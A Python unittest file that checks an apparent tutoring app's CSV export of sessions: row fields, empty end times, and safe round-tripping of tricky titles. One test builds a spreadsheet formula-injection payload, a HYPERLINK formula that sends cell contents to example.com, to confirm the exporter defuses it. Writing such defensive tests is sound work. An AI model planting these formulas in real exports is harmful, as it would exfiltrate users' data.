"""The export as a table."""

from __future__ import annotations

import csv
from datetime import timedelta
from unittest import TestCase

from tests.support import NOW
from youlab.conversations import Conversation, Message
from youlab.export import as_csv
from youlab.export.records import Session


class CsvTest(TestCase):
    def rows(self, *titles: str) -> list[dict[str, str]]:
        """The table as another program reads it, with a finished session for each title."""
        end = NOW + timedelta(minutes=20)
        said = (Message("user", "Why?", NOW), Message("tutor", "Because.", NOW))
        sessions = [Session(Conversation(number, title, NOW, end), said) for number, title in enumerate(titles, 1)]
        return list(csv.DictReader("".join(as_csv.lines(sessions)).splitlines(keepends=True)))

    def test_a_session_is_a_row(self) -> None:
        expected = {
            "id": "1",
            "title": "Fractions",
            "started_at": "2025-03-14 12:00:00",
            "ended_at": "2025-03-14 12:20:00",
            "messages": "2",
        }
        self.assertEqual(self.rows("Fractions"), [expected])

    def test_a_session_that_goes_on_has_an_empty_end(self) -> None:
        text = "".join(as_csv.lines([Session(Conversation(1, "Fractions", NOW, None), ())]))
        self.assertTrue(text.endswith("1,Fractions,2025-03-14 12:00:00,,0\r\n"))

    def test_titles_come_back_whatever_stands_in_them(self) -> None:
        titles = ("a, b; c", 'say "half"', "two\r\nlines", "Größen", "")
        self.assertEqual([row["title"] for row in self.rows(*titles)], list(titles))

    def test_no_title_is_run_as_a_formula(self) -> None:
        for sign in "=+-@\t\r\n":
            with self.subTest(sign):
                title = f'{sign}HYPERLINK("https://example.com/?"&A2)'
                self.assertEqual(self.rows(title)[0]["title"], f"'{title}")

    def test_a_sign_inside_a_title_stays_as_it_is(self) -> None:
        self.assertEqual(self.rows("1 + 1 = 2")[0]["title"], "1 + 1 = 2")
